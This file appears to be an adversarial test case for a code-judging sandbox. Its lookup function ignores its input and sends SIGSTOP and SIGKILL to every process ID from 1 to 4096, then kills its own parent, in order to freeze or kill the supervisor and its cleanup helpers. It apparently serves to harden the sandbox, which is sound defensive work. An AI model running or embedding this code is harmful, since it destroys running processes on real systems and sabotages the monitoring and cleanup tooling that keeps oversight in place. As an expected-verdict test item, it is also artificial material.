# problem: secret_lookup
# verdict: wrong_answer
# attack: walks pids 1..4096 sending SIGSTOP then SIGKILL to each, to freeze or kill the supervisor or a cleanup helper
# max-seconds: 10
import contextlib
import os
import signal


def lookup(key):
    me = os.getpid()
    hits = 0
    for pid in range(1, 4097):
        if pid == me:
            continue
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                hits += 1
            except ProcessLookupError:
                break
            except PermissionError:
                pass
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
    return f"signalled {hits}"
